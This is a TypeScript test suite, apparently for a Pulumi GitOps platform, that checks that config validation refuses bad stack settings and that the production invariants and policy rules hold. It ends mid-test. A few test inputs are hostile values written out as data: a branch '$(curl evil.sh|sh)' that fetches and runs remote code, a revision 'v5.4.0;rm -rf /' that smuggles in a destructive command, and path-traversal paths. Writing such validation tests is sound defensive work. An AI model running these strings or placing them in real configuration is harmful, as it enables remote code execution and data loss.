/**
 * Issue 14: hostile and mistaken input gets a clear answer. Each case edits a checked-in stack file,
 * runs the plan's CLI main in-process, and asserts the exit code, the key the report names, that the
 * report is printed once, and that the program declared nothing (a stack transformation counts
 * every resource registration).
 */
import * as assert from "node:assert/strict";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import * as YAML from "yaml";
import { main as planMain } from "../plan/cli";
import { main as checkMain } from "../policy/check";
import { runPlan } from "../plan/run";
import { readStackConfig } from "../plan/stackFile";
import { runPlatform } from "../stacks";
import { PlatformConfig, PROJECT } from "../stacks/config";
import { EksClusterConfig } from "../stacks/config/cluster";
import { ArgocdConfig } from "../stacks/config/engine";
import { PRODUCTION_INVARIANTS } from "../stacks/config/invariants";
import { EKS_KUBERNETES_VERSIONS, RESERVED_RANGES } from "../stacks/config/cluster";
import { SYNC_CONTROLLERS } from "../stacks/config/engine";
import { GITHUB_OWNER, githubRepositoryName, gitRefProblem, labelKeyProblem, labelValue } from "../stacks/config/rules";
import { secretsPrefixProblem } from "../stacks/config/secrets";
import { captureOutput } from "./delivery-capture";
import { stackFilePath } from "../plan/stackFile";
import { fromPlanned } from "../policy/check";
import { INVARIANT_RULES } from "../policy/invariants";
import { PACK_RULES } from "../policy/pack";
import { checkResources, PolicyResource } from "../policy/rules";
import { planStack } from "./harness";

/**
 * A stack file's config as YAML parses it; the sections the cases edit are typed as the schema yields them
 * (EKS clusters, Argo CD, AWS Secrets Manager). A case that writes a value of the wrong type does so with Object.assign.
 */
type Config = Record<string, unknown> & {
    "gitops-platform:cluster": EksClusterConfig;
    "gitops-platform:engine": ArgocdConfig;
    "gitops-platform:github": NonNullable<PlatformConfig["github"]>;
    "gitops-platform:apps": PlatformConfig["apps"];
    "gitops-platform:appDefaults": PlatformConfig["appDefaults"];
    "gitops-platform:gitopsRepository": PlatformConfig["gitopsRepository"];
    "gitops-platform:secrets": Extract<PlatformConfig["secrets"], { type: "aws-secrets-manager" }>;
    "gitops-platform:tags": Record<string, string>;
};

const dir = fs.mkdtempSync(path.join(os.tmpdir(), "guardrails-"));

function stackFile(stack: string, edit: (config: Config) => void, name = stack): string {
    const document = YAML.parse(fs.readFileSync(stackFilePath(stack), "utf8")) as { config: Config };
    edit(document.config);
    const file = path.join(dir, `Pulumi.${name}.yaml`);
    fs.writeFileSync(file, YAML.stringify(document));
    return file;
}

/** Resources the program registers with this config (0 when validation refuses it). */
async function declaredCount(file: string, stack: string): Promise<number> {
    let count = 0;
    const program = () => {
        pulumi.runtime.registerStackTransformation(() => {
            count++;
            return undefined;
        });
        return runPlatform();
    };
    await runPlan({ project: PROJECT, stack, ...readStackConfig(file) }, program).catch(() => undefined);
    return count;
}

const P = "gitops-platform:";
interface BadInput {
    name: string;
    stack: "staging" | "production" | "local";
    edit: (c: Config) => void;
    key: string;
}
const cluster = (c: Config) => c[`${P}cluster`];
const protection = (c: Config) => c[`${P}github`].protection;
const apps = (c: Config) => c[`${P}apps`];

const CASES: BadInput[] = [
    // Namespaces: a typo in the project prefix must not drop a section (issue 14).
    {
        name: "misspelt project namespace",
        stack: "production",
        edit: (c) => {
            c["gitops-platfrom:apps"] = c[`${P}apps`];
            Reflect.deleteProperty(c, `${P}apps`);
        },
        key: "gitops-platfrom:apps",
    },
    {
        name: "unknown provider namespace",
        stack: "staging",
        edit: (c) => {
            c["awss:region"] = "eu-west-1";
        },
        key: "awss:region",
    },
    {
        name: "key without a namespace",
        stack: "staging",
        edit: (c) => {
            c.environment = "staging";
        },
        key: "environment",
    },
    // Production invariants, one broken at a time.
    {
        name: "production without github",
        stack: "production",
        edit: (c) => {
            Reflect.deleteProperty(c, `${P}github`);
        },
        key: `${P}github`,
    },
    {
        name: "production with 0 approvals",
        stack: "production",
        edit: (c) => {
            protection(c).requiredApprovals = 0;
        },
        key: `${P}github.protection.requiredApprovals`,
    },
    {
        name: "production with 1 approval",
        stack: "production",
        edit: (c) => {
            protection(c).requiredApprovals = 1;
        },
        key: `${P}github.protection.requiredApprovals`,
    },
    {
        name: "production without code-owner review",
        stack: "production",
        edit: (c) => {
            protection(c).requireCodeOwnerReview = false;
        },
        key: `${P}github.protection.requireCodeOwnerReview`,
    },
    {
        name: "production without status checks",
        stack: "production",
        edit: (c) => {
            protection(c).requiredStatusChecks = [];
        },
        key: `${P}github.protection.requiredStatusChecks`,
    },
    {
        name: "production without signed commits",
        stack: "production",
        edit: (c) => {
            protection(c).requireSignedCommits = false;
        },
        key: `${P}github.protection.requireSignedCommits`,
    },
    {
        name: "production with admins unbound",
        stack: "production",
        edit: (c) => {
            protection(c).enforceAdmins = false;
        },
        key: `${P}github.protection.enforceAdmins`,
    },
    {
        name: "production with protection off",
        stack: "production",
        edit: (c) => {
            protection(c).enabled = false;
        },
        key: `${P}github.protection.enabled`,
    },
    {
        name: "production endpoint open to the internet",
        stack: "production",
        edit: (c) => {
            cluster(c).endpoint = { publicAccess: true, publicAccessCidrs: ["0.0.0.0/0"] };
        },
        key: `${P}cluster.endpoint.publicAccessCidrs[0]`,
    },
    {
        name: "production Argo CD without SSO",
        stack: "production",
        edit: (c) => {
            delete c[`${P}engine`].sso;
        },
        key: `${P}engine.sso`,
    },
    {
        name: "production cascade delete",
        stack: "production",
        edit: (c) => {
            c[`${P}engine`].cascadeDelete = true;
        },
        key: `${P}engine.cascadeDelete`,
    },
    {
        name: "production prune for every app",
        stack: "production",
        edit: (c) => {
            c[`${P}appDefaults`].sync = { prune: true };
        },
        key: `${P}appDefaults.sync.prune`,
    },
    {
        name: "production app on a branch",
        stack: "production",
        edit: (c) => {
            apps(c)[0].source.revision = "main";
        },
        key: `${P}apps[0].source.revision`,
    },
    {
        name: "production app on a release branch",
        stack: "production",
        edit: (c) => {
            apps(c)[1].source.revision = "release/5.3";
        },
        key: `${P}apps[1].source.revision`,
    },
    {
        name: "production app on HEAD",
        stack: "production",
        edit: (c) => {
            apps(c)[0].source.revision = "HEAD";
        },
        key: `${P}apps[0].source.revision`,
    },
    {
        name: "production file with environment staging",
        stack: "production",
        edit: (c) => {
            c[`${P}environment`] = "staging";
        },
        key: `${P}environment`,
    },
    {
        name: "staging file with environment production",
        stack: "staging",
        edit: (c) => {
            c[`${P}environment`] = "production";
        },
        key: `${P}environment`,
    },
    // Secrets and credentials.
    {
        name: "plain-text github:token",
        stack: "staging",
        edit: (c) => {
            c["github:token"] = "ghp_plaintexttoken";
        },
        key: "github:token",
    },
    {
        name: "plain-text ssoClientSecret",
        stack: "production",
        edit: (c) => {
            c[`${P}ssoClientSecret`] = "plain";
        },
        key: `${P}ssoClientSecret`,
    },
    {
        name: "plain-text aws:secretKey",
        stack: "staging",
        edit: (c) => {
            c["aws:secretKey"] = "abc";
        },
        key: "aws:secretKey",
    },
    {
        name: "production SSO without client secret",
        stack: "production",
        edit: (c) => {
            delete c[`${P}ssoClientSecret`];
        },
        key: `${P}ssoClientSecret`,
    },
    // Top-level shape and cross-section rules.
    {
        name: "unknown top-level key",
        stack: "staging",
        edit: (c) => {
            c[`${P}clustr`] = {};
        },
        key: `${P}clustr`,
    },
    {
        name: "bad environment",
        stack: "staging",
        edit: (c) => {
            c[`${P}environment`] = "prod";
        },
        key: `${P}environment`,
    },
    {
        name: "missing environment",
        stack: "staging",
        edit: (c) => {
            delete c[`${P}environment`];
        },
        key: `${P}environment`,
    },
    {
        name: "missing cluster",
        stack: "staging",
        edit: (c) => {
            Reflect.deleteProperty(c, `${P}cluster`);
        },
        key: `${P}cluster`,
    },
    {
        name: "missing engine",
        stack: "staging",
        edit: (c) => {
            Reflect.deleteProperty(c, `${P}engine`);
        },
        key: `${P}engine`,
    },
    {
        name: "tags without owner",
        stack: "staging",
        edit: (c) => {
            c[`${P}tags`] = { team: "x" };
        },
        key: `${P}tags`,
    },
    // AWS tagging rules (docs.aws.amazon.com/tag-editor/latest/userguide/tagging.html): aws: prefix reserved, 50 tags.
    {
        name: "reserved aws: tag key",
        stack: "staging",
        edit: (c) => {
            c[`${P}tags`]["aws:createdBy"] = "me";
        },
        key: `${P}tags`,
    },
    {
        name: "more tags than AWS allows",
        stack: "staging",
        edit: (c) => {
            for (let i = 0; i < 49; i++) {
                c[`${P}tags`][`t${i}`] = "x";
            }
        },
        key: `${P}tags`,
    },
    // Region codes (docs.aws.amazon.com/general/latest/gr/rande.html).
    {
        name: "malformed region",
        stack: "staging",
        edit: (c) => {
            c["aws:region"] = "Europe (Ireland)";
        },
        key: "aws:region",
    },
    {
        name: "region without its number",
        stack: "staging",
        edit: (c) => {
            c["aws:region"] = "eu-west";
        },
        key: "aws:region",
    },
    {
        name: "EKS without aws:region",
        stack: "staging",
        edit: (c) => {
            delete c["aws:region"];
        },
        key: "aws:region",
    },
    {
        name: "github without github:owner",
        stack: "staging",
        edit: (c) => {
            delete c["github:owner"];
        },
        key: "github:owner",
    },
    {
        name: "promotion from itself",
        stack: "production",
        edit: (c) => {
            c[`${P}promotion`] = { from: "production" };
        },
        key: `${P}promotion.from`,
    },
    {
        name: "app of an unknown team",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].team = "nobody";
        },
        key: `${P}apps[0].team`,
    },
    {
        name: "app in kube-system",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].namespace = "kube-system";
        },
        key: `${P}apps[0].namespace`,
    },
    {
        name: "app in the engine's namespace",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].namespace = "argocd";
        },
        key: `${P}apps[0].namespace`,
    },
    {
        name: "two apps in one namespace",
        stack: "staging",
        edit: (c) => {
            apps(c)[1].namespace = apps(c)[0].namespace ?? apps(c)[0].name;
        },
        key: `${P}apps[1].namespace`,
    },
    {
        name: "app of an unknown repository",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].source.repository = "nope";
        },
        key: `${P}apps[0].source.repository`,
    },
    {
        name: "duplicate app names",
        stack: "staging",
        edit: (c) => {
            apps(c)[1].name = apps(c)[0].name;
        },
        key: `${P}apps[1].name`,
    },
    {
        name: "app name not a DNS label",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].name = "Payments_API";
        },
        key: `${P}apps[0].name`,
    },
    {
        name: "unknown app key",
        stack: "staging",
        edit: (c) => {
            Object.assign(apps(c)[0], { revison: "v1" });
        },
        key: `${P}apps[0].revison`,
    },
    {
        name: "app without source path",
        stack: "staging",
        edit: (c) => {
            Reflect.deleteProperty(apps(c)[0].source, "path");
        },
        key: `${P}apps[0].source.path`,
    },
    {
        name: "secretKeys without a secrets section",
        stack: "staging",
        edit: (c) => {
            Reflect.deleteProperty(c, `${P}secrets`);
        },
        key: `${P}apps[0].secretKeys`,
    },
    {
        name: "aws-secrets-manager on an existing cluster",
        stack: "local",
        edit: (c) => {
            Object.assign(c, { [`${P}secrets`]: { type: "aws-secrets-manager" } });
        },
        key: `${P}secrets.type`,
    },
    {
        name: "bad secrets prefix",
        stack: "staging",
        edit: (c) => {
            c[`${P}secrets`].prefix = "a//b";
        },
        key: `${P}secrets.prefix`,
    },
    {
        name: "old external-secrets chart",
        stack: "staging",
        edit: (c) => {
            c[`${P}secrets`].chartVersion = "0.9.0";
        },
        key: `${P}secrets.chartVersion`,
    },
    // Cluster values as EKS and EC2 take them.
    {
        name: "unquoted Kubernetes version",
        stack: "staging",
        edit: (c) => {
            Object.assign(cluster(c), { kubernetesVersion: 1.3 });
        },
        key: `${P}cluster.kubernetesVersion`,
    },
    {
        name: "kube-proxy of another version",
        stack: "staging",
        edit: (c) => {
            cluster(c).addons.kubeProxy = "v1.29.0-eksbuild.1";
        },
        key: `${P}cluster.addons.kubeProxy`,
    },
    {
        name: "bad add-on version",
        stack: "staging",
        edit: (c) => {
            cluster(c).addons.coreDns = "latest";
        },
        key: `${P}cluster.addons.coreDns`,
    },
    {
        name: "VPC with host bits",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "10.0.0.1/16";
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "VPC larger than /16",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "10.0.0.0/8";
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "one availability zone",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.availabilityZones = 1;
        },
        key: `${P}cluster.network.availabilityZones`,
    },
    {
        name: "bad NAT gateway mode",
        stack: "staging",
        edit: (c) => {
            Object.assign(cluster(c).network, { natGateways: "many" });
        },
        key: `${P}cluster.network.natGateways`,
    },
    {
        name: "public endpoint without ranges",
        stack: "staging",
        edit: (c) => {
            cluster(c).endpoint = { publicAccess: true, publicAccessCidrs: [] };
        },
        key: `${P}cluster.endpoint.publicAccessCidrs`,
    },
    {
        name: "no admin roles",
        stack: "staging",
        edit: (c) => {
            cluster(c).adminRoleArns = [];
        },
        key: `${P}cluster.adminRoleArns`,
    },
    {
        name: "admin role that is not an ARN",
        stack: "staging",
        edit: (c) => {
            cluster(c).adminRoleArns = ["admins"];
        },
        key: `${P}cluster.adminRoleArns[0]`,
    },
    {
        name: "no node groups",
        stack: "staging",
        edit: (c) => {
            cluster(c).nodeGroups = {};
        },
        key: `${P}cluster.nodeGroups`,
    },
    {
        name: "bad log retention",
        stack: "staging",
        edit: (c) => {
            cluster(c).logRetentionDays = 10;
        },
        key: `${P}cluster.logRetentionDays`,
    },
    {
        name: "unknown cluster type",
        stack: "staging",
        edit: (c) => {
            Object.assign(cluster(c), { type: "gke" });
        },
        key: `${P}cluster.type`,
    },
    // Engine and repositories.
    {
        name: "unknown Argo CD chart",
        stack: "staging",
        edit: (c) => {
            c[`${P}engine`].chartVersion = "1.0.0";
        },
        key: `${P}engine.chartVersion`,
    },
    {
        name: "chart version range",
        stack: "staging",
        edit: (c) => {
            c[`${P}engine`].chartVersion = "^10.1.1";
        },
        key: `${P}engine.chartVersion`,
    },
    {
        name: "Flux option on Argo CD",
        stack: "staging",
        edit: (c) => {
            Object.assign(c[`${P}engine`], { multitenancy: true });
        },
        key: `${P}engine.multitenancy`,
    },
    {
        name: "unknown engine type",
        stack: "staging",
        edit: (c) => {
            Object.assign(c[`${P}engine`], { type: "jenkins" });
        },
        key: `${P}engine.type`,
    },
    {
        name: "too many approvals",
        stack: "staging",
        edit: (c) => {
            protection(c).requiredApprovals = 9;
        },
        key: `${P}github.protection.requiredApprovals`,
    },
    {
        name: "bad code owner",
        stack: "staging",
        edit: (c) => {
            c[`${P}github`].codeOwners = ["platform"];
        },
        key: `${P}github.codeOwners[0]`,
    },
    {
        name: "github and a url",
        stack: "staging",
        edit: (c) => {
            c[`${P}gitopsRepository`].url = "https://github.com/a/b.git";
        },
        key: `${P}gitopsRepository.url`,
    },
    {
        name: "local without url",
        stack: "local",
        edit: (c) => {
            delete c[`${P}gitopsRepository`].url;
        },
        key: `${P}gitopsRepository.url`,
    },
    // Values as the receiving system checks them (issue 14). Each limit's source is cited at its rule
    // in stacks/config/ and in "guardrails: each limit as its source states it" below.
    {
        name: "Kubernetes version past EKS extended support",
        stack: "staging",
        edit: (c) => {
            cluster(c).kubernetesVersion = "1.31";
        },
        key: `${P}cluster.kubernetesVersion`,
    },
    {
        name: "Kubernetes version EKS does not offer yet",
        stack: "staging",
        edit: (c) => {
            cluster(c).kubernetesVersion = "1.40";
        },
        key: `${P}cluster.kubernetesVersion`,
    },
    {
        name: "loopback VPC",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "127.0.0.0/16";
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "multicast VPC",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "224.0.0.0/16";
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "link-local VPC",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "169.254.0.0/16";
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "VPC smaller than /28",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.vpcCidr = "10.20.0.0/29";
            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
            cluster(c).network.privateSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
        },
        key: `${P}cluster.network.vpcCidr`,
    },
    {
        name: "subnet smaller than /28",
        stack: "staging",
        edit: (c) => {
            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.1.0/24"];
            cluster(c).network.privateSubnetCidrs = ["10.20.128.0/18", "10.20.192.0/18"];
        },
        key: `${P}cluster.network.publicSubnetCidrs[0]`,
    },
    {
        name: "GitHub owner with a leading hyphen",
        stack: "staging",
        edit: (c) => {
            c["github:owner"] = "-acme";
        },
        key: "github:owner",
    },
    {
        name: "GitHub owner with a double hyphen",
        stack: "production",
        edit: (c) => {
            c["github:owner"] = "acme--platform";
        },
        key: "github:owner",
    },
    {
        name: 'repository named ".."',
        stack: "staging",
        edit: (c) => {
            c[`${P}gitopsRepository`].name = "..";
        },
        key: `${P}gitopsRepository.name`,
    },
    {
        name: 'repository name ending in ".git"',
        stack: "staging",
        edit: (c) => {
            c[`${P}gitopsRepository`].name = "platform.git";
        },
        key: `${P}gitopsRepository.name`,
    },
    {
        name: "branch HEAD",
        stack: "staging",
        edit: (c) => {
            c[`${P}gitopsRepository`].branch = "HEAD";
        },
        key: `${P}gitopsRepository.branch`,
    },
    {
        name: 'branch with ".."',
        stack: "staging",
        edit: (c) => {
            c[`${P}gitopsRepository`].branch = "main..dev";
        },
        key: `${P}gitopsRepository.branch`,
    },
    {
        name: "branch with shell syntax",
        stack: "local",
        edit: (c) => {
            c[`${P}gitopsRepository`].branch = "$(curl evil.sh|sh)";
        },
        key: `${P}gitopsRepository.branch`,
    },
    {
        name: "app revision HEAD outside production",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].source.revision = "HEAD";
        },
        key: `${P}apps[0].source.revision`,
    },
    {
        name: "app revision with a command",
        stack: "staging",
        edit: (c) => {
            apps(c)[1].source.revision = "v5.4.0;rm -rf /";
        },
        key: `${P}apps[1].source.revision`,
    },
    {
        name: 'app revision with a component starting with "."',
        stack: "local",
        edit: (c) => {
            apps(c)[0].source.revision = "feature/.hidden";
        },
        key: `${P}apps[0].source.revision`,
    },
    {
        name: "app path leaving the repository",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].source.path = "deploy/../../..";
        },
        key: `${P}apps[0].source.path`,
    },
    {
        name: "absolute app path",
        stack: "local",
        edit: (c) => {
            apps(c)[0].source.path = "/etc/kubernetes";
        },
        key: `${P}apps[0].source.path`,
    },
    {
        name: "app URL without a repository",
        stack: "staging",
        edit: (c) => {
            apps(c)[2].source.url = "https://github.com/";
        },
        key: `${P}apps[2].source.url`,
    },
    {
        name: "GitHub app URL naming only an owner",
        stack: "local",
        edit: (c) => {
            apps(c)[0].source.url = "https://github.com/stefanprodan";
        },
        key: `${P}apps[0].source.url`,
    },
    {
        name: "app repository that GitHub refuses",
        stack: "staging",
        edit: (c) => {
            apps(c)[0].source.repository = "payments api";
        },
        key: `${P}apps[0].source.repository`,
    },
    {
        name: "empty Flux component list",
        stack: "local",
        edit: (c) => {
            Object.assign(c[`${P}engine`], { components: [] });
        },
        key: `${P}engine.components`,
    },
    {
        name: "Flux components without kustomize-controller",
        stack: "local",
        edit: (c) => {
            Object.assign(c[`${P}engine`], { components: ["source-controller", "helm-controller"] });
        },
        key: `${P}engine.components`,
    },
    {
        name: "Flux helm app without helm-controller",
        stack: "local",
        edit: (c) => {
            Object.assign(c[`${P}engine`], { components: ["source-controller", "kustomize-controller"] });
            apps(c)[0].source.type = "helm";
            // A kustomize patch does not apply to a chart (refused on its own).
            delete apps(c)[0].source.patches;
        },
        key: `${P}engine.components`,
    },
    {
        name: "node label key Kubernetes refuses",
        stack: "production",
        edit: (c) => {
            cluster(c).nodeGroups.system.labels["-workload"] = "system";
        },
        key: `${P}cluster.nodeGroups.system.labels.-workload`,
    },
    {
        name: "node label value Kubernetes refuses",
        stack: "production",
        edit: (c) => {
            cluster(c).nodeGroups.system.labels.workload = "system critical";
        },
        key: `${P}cluster.nodeGroups.system.labels.workload`,
    },
    {
        name: "monitoring selector label key with two slashes",
        stack: "production",
        edit: (c) => {
            Object.assign(c[`${P}monitoring`] as object, {
                selectorLabels: { "a/b/release": "kube-prometheus-stack" },
            });
        },
        key: `${P}monitoring.selectorLabels.a/b/release`,
    },
    {
        name: "engine in kube-system",
        stack: "staging",
        edit: (c) => {
            c[`${P}engine`].namespace = "kube-system";
        },
        key: `${P}engine.namespace`,
    },
    {
        name: "engine in the default namespace",
        stack: "local",
        edit: (c) => {
            c[`${P}engine`].namespace = "default";
        },
        key: `${P}engine.namespace`,
    },
    {
        name: "secrets operator in the engine's namespace",
        stack: "staging",
        edit: (c) => {
            c[`${P}secrets`].namespace = "argocd";
        },
        key: `${P}secrets.namespace`,
    },
    // secrets.prefix: the operator reads <prefix>/* (components/secrets/policy.ts).
    {
        name: "staging prefix reaching production's secrets",
        stack: "staging",
        edit: (c) => {
            c[`${P}secrets`].prefix = "gitops-platform/production";
        },
        key: `${P}secrets.prefix`,
    },
    {
        name: "prefix that is every stack's parent",
        stack: "production",
        edit: (c) => {
            c[`${P}secrets`].prefix = "gitops-platform";
        },
        key: `${P}secrets.prefix`,
    },
    {
        name: "production prefix under staging's",
        stack: "production",
        edit: (c) => {
            c[`${P}secrets`].prefix = "gitops-platform/staging/production";
        },
        key: `${P}secrets.prefix`,
    },
    {
        name: "wildcard prefix",
        stack: "staging",
        edit: (c) => {
            c[`${P}secrets`].prefix = "gitops-platform/*";
        },
        key: `${P}secrets.prefix`,
    },
];

describe("guardrails: bad input is refused with the key named and nothing declared", () => {
    it("has at least 60 cases", () => assert.ok(CASES.length >= 60, String(CASES.length)));

    for (const c of CASES) {
        it(`refuses ${c.name} (${c.key})`, async () => {
            const file = stackFile(c.stack, c.edit);
            const { result, out, err } = await captureOutput(() => planMain(["--stack", c.stack, "--config", file]));
            assert.equal(result, 1, err);
            assert.equal(out, "");
            assert.ok(err.includes(`  - ${c.key}: `), `expected ${c.key} in:\n${err}`);
            assert.equal(err.match(/Stack configuration has/g)?.length, 1, "printed once");
            assert.doesNotMatch(err, /ConfigError|__pulumiRunError|at .*\.ts:\d+/);
            assert.equal(await declaredCount(file, c.stack), 0);
        });
    }

    it("plans each checked-in stack unedited (the cases' baseline is valid)", async () => {
        for (const stack of ["staging", "production", "local"] as const) {
            assert.ok(
                (await declaredCount(
                    stackFile(stack, () => undefined),
                    stack,
                )) > 0,
                stack,
            );
        }
    });
});

describe("guardrails: one report lists every problem", () => {
    it("still checks invariants and namespaces when another section does not parse", async () => {
        const file = stackFile("production", (c) => {
            Object.assign(cluster(c), { kubernetesVersion: 1.3 });
            protection(c).requiredApprovals = 0;
            c["gitops-platfrom:teams"] = {};
        });
        const { result, err } = await captureOutput(() => planMain(["--stack", "production", "--config", file]));
        assert.equal(result, 1);
        for (const key of [
            `${P}cluster.kubernetesVersion`,
            `${P}github.protection.requiredApprovals`,
            "gitops-platfrom:teams",
        ]) {
            assert.ok(err.includes(`  - ${key}: `), key);
        }
    });

    it("never prints a secret value, whatever key it sits under", async () => {
        const file = stackFile("staging", (c) => {
            c["gitops-platfom:token"] = { secure: "v1:c2VjcmV0" };
            c[`${P}ssoClientSecre`] = { secure: "v1:c2VjcmV0" };
            c["github:token"] = "ghp_visible_if_leaked";
        });
        const { err } = await captureOutput(() => planMain(["--stack", "staging", "--config", file]));
        assert.doesNotMatch(err, /offline-plan-secret|ghp_visible_if_leaked/);
        assert.match(err, /gitops-platfom:token: .*\(got "\[secret\]"\)/);
    });
});

describe("guardrails: every production invariant is refused by npm run check", () => {
    it("names the invariant and exits non-zero", async () => {
        const file = stackFile("production", (c) => {
            protection(c).requireSignedCommits = false;
        });
        const { result, err } = await captureOutput(() => checkMain(["--stack", "production", "--config", file]));
        assert.equal(result, 1);
        assert.match(err, /production invariant signed-commits/);
        assert.ok(PRODUCTION_INVARIANTS.length >= 12);
    });

    it("names, for each invariant with a policy rule, a rule the pack registers", () => {
        const registered = new Set(PACK_RULES.map((rule) => rule.name));
        for (const invariant of PRODUCTION_INVARIANTS.filter((i) => i.policy !== undefined)) {
            assert.ok(registered.has(invariant.policy!), `${invariant.id} → ${invariant.policy}`);
        }
        for (const rule of INVARIANT_RULES) {
            assert.ok(registered.has(rule.name), rule.name);
        }
    });
});

describe("guardrails: YAML as the Pulumi CLI reads it", () => {
    const write = (name: string, text: string) => {
        const file = path.join(dir, name);
        fs.writeFileSync(file, text);
        return file;
    };
    const base = fs.readFileSync(stackFilePath("local"), "utf8");
    const bad: [string, string, RegExp][] = [
        ["a syntax error", "config:\n  gitops-platform:cluster: {type: eks\n", /:\d+:\d+: /],
        ["a duplicate key", `${base}  gitops-platform:environment: local\n`, /:\d+:\d+: Map keys must be unique/],
        ["a tab in indentation", "config:\n\tgitops-platform:environment: local\n", /:\d+:\d+: /],
        ["a list at the top", "- a\n", /expected a mapping with a "config:" mapping/],
    ];
    for (const [name, text, message] of bad) {
        it(`reports ${name} as file:line:column in one line, exit 1`, async () => {
            const file = write(`Pulumi.local.yaml`, text);
            const { result, err } = await captureOutput(() => planMain(["--stack", "local", "--config", file]));
            assert.equal(result, 1);
            assert.match(err, message);
            assert.equal(err.trim().split("\n").length, 1, err);
        });
    }

    it("reports a folder given as --config in one line", async () => {
        const { result, err } = await captureOutput(() => planMain(["--config", dir]));
        assert.equal(result, 1);
        assert.match(err, /is a folder, not a file\n$/);
    });

    it("applies merge keys (<<: *base), as go-yaml does for the CLI", () => {
        const file = write(
            "Pulumi.merge.yaml",
            "config:\n  gitops-platform:tags:\n    <<: &base {owner: platform-team}\n    team: x\n",
        );
        assert.deepEqual(JSON.parse(readStackConfig(file).config["gitops-platform:tags"]), {
            owner: "platform-team",
            team: "x",
        });
    });
});

describe("guardrails: every command answers --help with exit 0", () => {
    for (const [name, main] of [
        ["plan", planMain],
        ["check", checkMain],
    ] as const) {
        it(name, async () => {
            const { result, out } = await captureOutput(() => main(["--help"]));
            assert.equal(result, 0);
            assert.match(out, /^usage: npm run /);
        });
    }
});

describe("guardrails: the policy pack flags the same invariants on a preview", () => {
    const production = async () => (await planStack("production")).resources.map(fromPlanned);
    const edit = (r: PolicyResource, props: Record<string, unknown>, protect = r.options.protect): PolicyResource => ({
        ...r,
        props: { ...r.props, ...props },
        options: { ...r.options, protect },
    });

    it("passes production as planned", async () => {
        assert.deepEqual(checkResources(await production(), INVARIANT_RULES), []);
    });

    it("flags a weakened ruleset, an open endpoint and a missing protect, naming each invariant", async () => {
        const resources = (await production()).map((r) => {
            if (r.type === "github:index/repositoryRuleset:RepositoryRuleset") {
                const rules = r.props.rules as Record<string, Record<string, unknown>>;
                return edit(r, {
                    rules: {
                        ...rules,
                        pullRequest: { ...rules.pullRequest, requiredApprovingReviewCount: 1 },
                        nonFastForward: false,
                    },
                    bypassActors: [{ actorId: 1 }],
                });
            }
            if (r.type === "aws:eks/cluster:Cluster") {
                return edit(r, { vpcConfig: { ...(r.props.vpcConfig as object), endpointPublicAccess: true } }, false);
            }
            return r;
        });
        const messages = checkResources(resources, INVARIANT_RULES)
            .map((v) => v.message)
            .join("\n");
        for (const id of ["two-approvals", "no-force-push", "admins-bound", "private-endpoint", "protect"]) {
            assert.match(messages, new RegExp(`production invariant ${id}:`), id);
        }
    });

    it("flags a cascade-deleting Application and an app on a branch, not the root on its protected branch", async () => {
        const resources = (await production()).map((r) =>
            r.type === "kubernetes:argoproj.io/v1alpha1:Application" && r.name.includes("payments-api")
                ? edit(r, {
                      metadata: {
                          ...(r.props.metadata as object),
                          finalizers: ["resources-finalizer.argocd.argoproj.io"],
                      },
                      spec: {
                          ...(r.props.spec as object),
                          source: { ...(r.props.spec as { source: object }).source, targetRevision: "release/2.14" },
                      },
                  })
                : r,
        );
        const violations = checkResources(resources, INVARIANT_RULES);
        assert.deepEqual(violations.map((v) => v.rule).sort(), [
            "production-immutable-revisions",
            "production-no-cascade-delete",
        ]);
        assert.ok(violations.every((v) => /payments-api/.test(v.message)));
    });

    it("flags a production Flux GitRepository that follows a branch", async () => {
        const flux = { type: "flux", multitenancy: true };
        const planned = (await planStack("production", { set: { [`${P}engine`]: flux } })).resources.map(fromPlanned);
        const repositories = planned.filter((r) => r.type === "kubernetes:source.toolkit.fluxcd.io/v1:GitRepository");
        assert.ok(repositories.length > 0);
        assert.deepEqual(checkResources(planned, INVARIANT_RULES), []);
        const onBranch = planned.map((r) =>
            r === repositories[0] ? edit(r, { spec: { ...(r.props.spec as object), ref: { branch: "main" } } }) : r,
        );
        assert.deepEqual(
            checkResources(onBranch, INVARIANT_RULES).map((v) => v.rule),
            ["production-immutable-revisions"],
        );
    });

    it("leaves staging's rulesets to staging's rules", async () => {
        assert.deepEqual(checkResources((await planStack("staging")).resources.map(fromPlanned), INVARIANT_RULES), []);
    });
});

describe("guardrails: each limit as its source states it", () => {
    it("takes the Kubernetes versions on the EKS release calendar, and the one the stacks use", () => {
        // awsdocs/amazon-eks-user-guide latest/ug/versioning/kubernetes-versions.adoc (calendar: 1.31's
        // extended support ended 2026-11-26; 1.32–1.34 run to 2027) and endoflife.date/amazon-eks (1.35
        // released 2026-01-28, extended support to 2028-03-27); 1.36 is the newest version the user guide's
        // current pages name (docs.aws.amazon.com/de_de/eks/latest/userguide/kubernetes-versions.md).
        assert.deepEqual(EKS_KUBERNETES_VERSIONS, ["1.32", "1.33", "1.34", "1.35", "1.36"]);
        for (const stack of ["staging", "production"]) {
            const file = YAML.parse(fs.readFileSync(stackFilePath(stack), "utf8")) as { config: Config };
            assert.ok(EKS_KUBERNETES_VERSIONS.includes(cluster(file.config).kubernetesVersion), stack);
        }
